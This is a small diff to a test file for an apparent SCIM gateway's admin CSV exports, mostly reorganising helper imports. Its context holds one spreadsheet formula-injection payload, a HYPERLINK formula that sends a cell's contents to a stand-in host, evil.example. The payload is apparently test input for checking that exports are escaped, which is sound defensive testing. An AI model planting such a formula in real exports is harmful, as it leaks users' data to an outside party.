@@ -18,9 +18,9 @@ from scimgate.extensions import db
 from scimgate.logs.activity import ScimActivity
 from scimgate.models import User, UserProfile, utcnow
 from scimgate.web.admin import export
-from tests.config_helpers import add_group, add_local_user, add_pushed_user
-from tests.signin_helpers import add_admin, configure_dev_saml, password_sign_in, saml_sign_in
-from tests.sql_counter import count_statements
+from tests.support.config import add_group, add_local_user, add_pushed_user
+from tests.support.signin import add_admin, configure_dev_saml, password_sign_in, saml_sign_in
+from tests.support.sql_counter import count_statements
 
 EXPORTS = ["/admin/users.csv", "/admin/groups.csv", "/admin/activity.csv"]
 HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
